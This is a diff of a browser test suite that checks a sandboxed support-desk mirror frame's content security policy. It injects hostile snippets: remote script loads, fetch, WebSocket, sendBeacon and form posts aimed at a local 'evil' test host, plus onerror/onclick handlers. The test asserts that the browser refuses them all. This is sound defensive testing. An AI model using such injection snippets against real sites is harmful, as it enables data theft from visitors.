@@ -358,6 +358,94 @@ def test_a_hostile_page_executes_and_fetches_nothing_at_the_desk(
                 )
 
 
+# As if the list of elements and the sandbox had failed: put into the frame as it is.
+REFUSED = """({ evil, html }) => new Promise((resolve) => {
+  const refused = new Set();
+  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+    refused.add(effectiveDirective);
+  });
+  const part = document.createElement("div");
+  part.innerHTML = html;
+  document.body.append(part);
+  const script = Object.assign(document.createElement("script"), { src: `${evil}/file/script.js` });
+  const inline = document.createElement("script");
+  inline.textContent = "window.hit = 1";
+  const base = Object.assign(document.createElement("base"), { href: `${evil}/` });
+  document.head.append(script, inline, base);
+  fetch(`${evil}/file/fetch`).catch(() => {});
+  try { new WebSocket(evil.replace("http", "ws")); } catch {}
+  try { new Worker("/static/desk/desk.js"); } catch {}
+  try { navigator.sendBeacon(`${evil}/file/beacon`, "x"); } catch {}
+  document.fonts.load("12px refused", "p").catch(() => {});
+  const wanted = %s;
+  const wait = (tries) => {
+    const isDone = tries === 0 || wanted.every((one) => refused.has(one));
+    if (isDone) resolve([...refused].sort());
+    else setTimeout(wait, 50, tries - 1);
+  };
+  wait(600);
+})"""
+SUBMITTED = """(evil) => {
+  const form = document.createElement("form");
+  Object.assign(form, { action: `${evil}/file/form`, method: "post" });
+  document.body.append(form);
+  setTimeout(() => form.submit());
+}"""
+DIRECTIVES = [
+    "base-uri",
+    "connect-src",
+    "font-src",
+    "frame-src",
+    "img-src",
+    "media-src",
+    "object-src",
+    "script-src-attr",
+    "script-src-elem",
+    "style-src-elem",
+    "worker-src",
+]
+
+
+def test_the_policy_of_the_frame_refuses_what_a_hostile_page_would_do_by_itself(
+    crowd: Crowd, product: Product
+) -> None:
+    crowd.expect_complaint("")  # each refusal is told to the console
+    html = """<img src="{evil}/file/picture" onerror="top.hit = 1">
+    <iframe src="{evil}/file/frame"></iframe><video src="{evil}/file/video"></video>
+    <object data="{evil}/file/object"></object><embed src="{evil}/file/embed">
+    <link rel="stylesheet" href="{evil}/file/sheet.css">
+    <style>@font-face {{ font-family: refused; src: url({evil}/file/font) }}
+    p {{ font-family: refused }}</style><p onclick="top.hit = 1">text</p>"""
+    with site(product, "evil") as evil, site(product, "<p>A page</p>") as shop:
+        _visitor, alice = start(crowd, shop.url)
+        product.rows(
+            "UPDATE accounts_website SET domains = %s WHERE key = 'demo' RETURNING 1",
+            [f"localhost:{shop.url.rpartition(':')[2]}", f"127.0.0.1:{product.port}"],
+        )
+        try:
+            look(alice)
+            expect(picture(alice).get_by_text("A page")).to_be_visible()
+            frame = next(one for one in alice.page.frames if one.url.endswith("/mirror/"))
+            known = {"evil": evil.url, "html": html.format(evil=evil.url)}
+            refused = frame.evaluate(REFUSED.replace("%s", str(DIRECTIVES)), known)
+            assert refused == DIRECTIVES
+            assert frame.evaluate("window.hit ?? top.hit ?? null") is None
+            # The last one, because the browser then puts a page of its own into the frame.
+            frame.evaluate(SUBMITTED, evil.url)
+            for _try in range(200):
+                if any("form-action" in complaint for complaint in crowd.complaints):
+                    break
+                alice.page.wait_for_timeout(100)
+            else:
+                raise AssertionError("the form was not refused")
+            assert (evil.asked, evil.connections) == ([], 0)
+        finally:
+            product.rows(
+                "UPDATE accounts_website SET domains = %s WHERE key = 'demo' RETURNING 1",
+                ["localhost", "127.0.0.1", "[::1]"],
+            )
+
+
 # The iframe of the Messenger, asked by a page that has built its own snapshot.
 UNCLEAN = """(html) => {
   const parsed = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
@@ -500,9 +588,12 @@ def test_what_an_agent_saw_is_stored_where_the_website_says_so_and_managers_repl
         boss.page.get_by_role("button", name="Play").click()
         expect(picture(boss).get_by_text("After")).to_be_visible()
         position = boss.page.get_by_role("slider", name="Position")
-        position.evaluate(
-            "(slider) => { slider.value = 0; slider.dispatchEvent(new Event('change')) }"
-        )
+        position.press("Home")
+        expect(picture(boss).get_by_text("Before")).to_be_visible()
+        expect(picture(boss).get_by_text("After")).to_have_count(0)
+        position.press("End")
+        expect(picture(boss).get_by_text("After")).to_be_visible()
+        expect(picture(boss).get_by_text("Before")).to_have_count(0)
         assert product.rows("SELECT count(*) FROM conversations_lookreplay") == [(1,)]
         crowd.expect_complaint("404")
         refused = alice.page.goto(f"{product.url}/desk/looks/{number}/")
